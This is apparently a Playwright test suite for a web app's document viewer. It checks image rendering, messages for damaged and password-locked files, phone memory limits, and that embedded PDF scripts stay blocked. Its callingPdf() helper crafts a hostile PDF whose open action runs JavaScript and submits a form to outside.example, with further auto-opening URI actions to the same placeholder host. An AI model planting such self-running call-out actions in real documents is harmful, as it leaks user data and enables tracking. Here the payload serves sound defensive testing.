import { expect, test } from '@playwright/test';
import { DRAWING_LIMIT, hasSamples, makePdf, sample, type TestFile } from './fixtures/files.ts';
import { seedPerson } from './fixtures/seed.ts';
import { openViewer } from './fixtures/viewer.ts';

test.skip(!hasSamples, 'needs ../shared/samples');

test('every kind of file is shown, or says why it cannot be [DVW-1, MVW-3] [REA-12]', async ({ page }) => {
  test.setTimeout(120_000);
  const pictures: [string, TestFile][] = ['jpeg', 'png', 'webp', 'gif', 'avif', 'bmp', 'heic', 'tiff'].map((kind) => [
    kind,
    sample(
      {
        jpeg: 'images/cmyk-no-profile.jpg',
        png: 'images/png-16bit-flag.png',
        webp: 'images/webp-photo.webp',
        gif: 'images/gif-animated-squares.gif',
        avif: 'images/avif-8bit-yuv420.avif',
        bmp: 'images/bmp-24bit-cat.bmp',
        heic: 'images/heic-iphone-photo.heic',
        tiff: 'images/tiff-multi-page-text.tif',
      }[kind] as string,
    ),
  ]);
  const person = await seedPerson(page, [
    ...pictures.map(([name, file]) => ({ name, file })),
    { name: 'old Word', file: sample('office/doc-97-sample.doc') },
    { name: 'old Excel', file: sample('office/xls-97-sample.xls') },
    { name: 'locked Word', file: sample('hostile/encrypted-password-is-pass.docx') },
    { name: 'no pixel', file: { name: 'scan.tif', mimeType: '', buffer: makeUnknownTiff() } },
    { name: 'damaged', file: { name: 'damaged.pdf', mimeType: '', buffer: makePdf('x').buffer.subarray(0, 60) } },
  ]);
  // the list begins with the newest paper: the viewer opens there and steps through the rest
  const viewer = await openViewer(page, 'damaged');
  await expect(viewer.getByText('Failed to load document: the PDF is damaged')).toBeVisible();
  await expect(viewer.getByRole('link', { name: 'Download' }).last()).toBeVisible();
  const goTo = async (name: string) => {
    await page.keyboard.press('Control+ArrowRight');
    await expect(viewer.getByRole('heading', { name, exact: true })).toBeVisible();
  };
  const download = viewer.getByRole('link', { name: 'Download' }).last();
  for (const [name, sentence] of [
    ['no pixel', 'This file is damaged, or saved in a way that can’t be shown here.'],
    ['locked Word', 'This file is locked with a password.'],
  ] as const) {
    await goTo(name);
    await expect(viewer.getByRole('heading', { name: sentence })).toBeVisible(DRAWING_LIMIT);
    await expect(download).toBeVisible();
  }
  for (const name of ['old Excel', 'old Word']) {
    await goTo(name);
    await expect(viewer.getByText('Preview not available')).toBeVisible();
    await expect(viewer.getByRole('link', { name: 'Download' }).last()).toBeVisible();
  }
  for (const [name] of pictures.toReversed()) {
    await goTo(name);
    const picture = viewer.getByRole('img', { name, exact: true });
    await expect(picture, name).toBeVisible(DRAWING_LIMIT);
    await expect
      .poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth), name)
      .toBeGreaterThan(20);
  }
  await page.goto(`/dashboard?member=${person.id}`);
  for (const [name, sentence] of [
    ['no pixel', 'This file is damaged'],
    ['locked Word', 'This file is locked with a password.'],
  ] as const)
    await expect(page.getByRole('link', { name: new RegExp(`${name}.*${sentence}`, 's') }).first()).toBeVisible();
});

/** One pixel in a compression that no program supports. */
function makeUnknownTiff(): Buffer {
  const tags = [
    [256, 4, 1],
    [257, 4, 1],
    [258, 3, 8],
    [259, 3, 50_000],
    [262, 3, 1],
    [273, 4, 122],
    [277, 3, 1],
    [278, 4, 1],
    [279, 4, 1],
  ];
  const bytes = Buffer.alloc(123);
  bytes.write('II*\0\x08\0\0\0', 'latin1');
  bytes.writeUInt16LE(tags.length, 8);
  for (const [index, [tag = 0, type = 0, value = 0]] of tags.entries()) {
    const at = 10 + 12 * index;
    bytes.writeUInt16LE(tag, at);
    bytes.writeUInt16LE(type, at + 2);
    bytes.writeUInt32LE(1, at + 4);
    bytes.writeUInt32LE(value, at + 8);
  }
  return bytes;
}

test('a locked PDF asks for its password, says if it is wrong, and opens with the right one [DVW-1]', async ({
  page,
}) => {
  await seedPerson(page, [{ name: 'Locked', file: sample('hostile/encrypted-user-password-openpassword.pdf') }]);
  const viewer = await openViewer(page, 'Locked');
  const field = viewer.getByLabel('PDF password');
  await field.fill('a guess');
  await page.keyboard.press('Enter');
  await expect(viewer.getByText('That password isn’t right.')).toBeVisible();
  await field.fill('openpassword');
  await viewer.getByRole('button', { name: 'Open', exact: true }).click();
  await expect(viewer.locator('canvas').first()).toBeVisible();
});

test('a PDF of 117 pages keeps only the pages near the visible one, each within the limits of a phone [DVW-1] @phone-only', async ({
  page,
}) => {
  await seedPerson(page, [{ name: 'Book', file: sample('pdf/pages-many-117-german-math-book.pdf') }]);
  const viewer = await openViewer(page, 'Book');
  const canvases = viewer.locator('canvas');
  await expect(canvases.first()).toBeVisible();
  for (const share of [0.3, 0.6, 1]) {
    await viewer
      .locator('.viewer-scroll')
      .evaluate((scroller, at) => scroller.scrollTo(0, at * scroller.scrollHeight), share);
    await expect(canvases.first()).toBeVisible();
  }
  await expect(viewer.getByLabel('Page 117 of 117')).toBeInViewport();
  await expect.poll(() => canvases.count()).toBeLessThanOrEqual(6);
  const sizes = await canvases.evaluateAll((all) =>
    all.map((canvas) => (canvas as HTMLCanvasElement).width * (canvas as HTMLCanvasElement).height),
  );
  expect(Math.max(...sizes)).toBeLessThanOrEqual(16_777_216);
});

test('scripts in PDFs do not run, and PDFs load nothing from outside [SEC-37]', async ({ page }) => {
  const outside: string[] = [];
  const dialogs: string[] = [];
  const { origin } = new URL(process.env.BASE_URL ?? '');
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await seedPerson(page, [
    { name: 'Actions', file: sample('pdf/javascript-document-actions.pdf') },
    { name: 'Form', file: sample('pdf/xfa-form.pdf') },
    { name: 'Calls', file: callingPdf() },
  ]);
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') && url.origin !== origin) outside.push(request.url());
  });
  for (const name of ['Actions', 'Form', 'Calls']) {
    const viewer = await openViewer(page, name);
    const isPlaceholder = name === 'Form';
    const shown = isPlaceholder ? viewer.getByText('This form opens only in Adobe Reader.') : viewer.locator('canvas');
    await expect(shown.first()).toBeVisible();
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    expect(await page.evaluate(() => (window as unknown as { scriptRan?: boolean }).scriptRan)).toBeUndefined();
  }
  expect(outside).toEqual([]);
  expect(dialogs).toEqual([]);
  // the content security policy would block it as well
  const policy = (await page.request.get('/dashboard')).headers()['content-security-policy'];
  expect(policy).toMatch(/script-src 'self';/);
  expect(policy).not.toContain('unsafe-eval');
});

/** A page that on opening runs a script, opens a site, submits a form and loads a picture from outside. */
function callingPdf(): TestFile {
  const script = `(app.alert\\('run'\\); this.submitForm\\('https://outside.example/submit'\\); globalThis.scriptRan = true;)`;
  const { buffer } = makePdf('It calls out');
  const text = buffer
    .toString('latin1')
    .replace(
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /URI /URI (https://outside.example/close) >> >> >>`,
    )
    .replace(
      '/Contents 4 0 R',
      '/Contents 4 0 R /AA << /O << /S /URI /URI (https://outside.example/open) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://outside.example/link) >> >>]',
    );
  return { name: 'calls.pdf', mimeType: 'application/pdf', buffer: Buffer.from(text, 'latin1') };
}
